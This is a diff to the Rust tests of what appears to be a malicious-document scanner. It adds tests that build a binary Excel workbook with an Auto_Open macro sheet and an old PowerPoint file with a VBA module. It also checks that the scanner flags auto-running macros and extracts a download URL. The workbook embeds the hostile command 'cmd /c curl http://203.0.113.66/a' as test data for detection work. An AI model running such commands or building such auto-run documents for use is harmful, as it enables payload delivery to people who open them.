@@ -11,6 +11,7 @@
 
 use watchfire_analysis::{Analysis, Engine, Settings};
 use watchfire_model::{Artifact, Hints, Origin};
+use watchfire_testkit::archive::Zip;
 use watchfire_testkit::encode::{base64, utf16le};
 use watchfire_testkit::shortcut::{Link, internet_shortcut};
 use watchfire_testkit::{disc, office, rich_text};
@@ -410,4 +411,63 @@ fn cut_and_flipped_samples_keep_the_promises() {
         }
     }
     assert!(tried > 3_000, "{tried}");
+}
+
+#[test]
+fn formulas_of_binary_workbooks_are_read() {
+    let wide = |text: &str| -> Vec<u8> { utf16le(text) };
+    let text = "cmd /c curl http://203.0.113.66/a";
+    let tokens = [
+        &[0x17][..],
+        &(text.len() as u16).to_le_bytes(),
+        &wide(text),
+        &[0x42, 1, 110, 0],
+    ]
+    .concat();
+    let cell = [
+        &[0; 8][..],
+        &[0; 8],
+        &[0; 2],
+        &(tokens.len() as u32).to_le_bytes(),
+        &tokens,
+    ]
+    .concat();
+    let sheet = [&[0, 4, 0, 0, 0, 0, 9, cell.len() as u8][..], &cell].concat();
+    let bytes = Zip::new()
+        .file(
+            "[Content_Types].xml",
+            b"<Types><Override PartName='/xl/workbook.bin' ContentType='application/vnd.ms-excel.sheet.binary.macroEnabled.main'/></Types>",
+        )
+        .file(
+            "_rels/.rels",
+            b"<Relationships><Relationship Id='a' Type='x/officeDocument' Target='xl/workbook.bin'/></Relationships>",
+        )
+        .file("xl/workbook.bin", &wide("_xlnm.Auto_Open"))
+        .file("xl/macrosheets/sheet1.bin", &sheet)
+        .build();
+    check(
+        "a.xlsb",
+        &bytes,
+        &[("document-active-content", 250), ("document-macro-runs", 600)],
+        &["xl/workbook.bin", "xl/macrosheets/sheet1.bin"],
+        &["http://203.0.113.66/a"],
+    );
+}
+
+#[test]
+fn macros_of_old_presentations_are_read() {
+    let project = office::vba_project(&[("Module1", LOADING)]);
+    let packed = watchfire_testkit::archive::zlib(&project);
+    let mut slides = vec![0x10, 0, 0x11, 0x10];
+    slides.extend((packed.len() as u32 + 4).to_le_bytes());
+    slides.extend((project.len() as u32).to_le_bytes());
+    slides.extend(packed);
+    let node = watchfire_testkit::compound::Node::Stream("PowerPoint Document".to_owned(), slides);
+    check(
+        "a.ppt",
+        &watchfire_testkit::compound::compound(&[node]),
+        &[("document-active-content", 250), ("document-macro-runs", 600)],
+        &["object", "object ▸ Module1.vba"],
+        &["http://203.0.113.66/a"],
+    );
 }
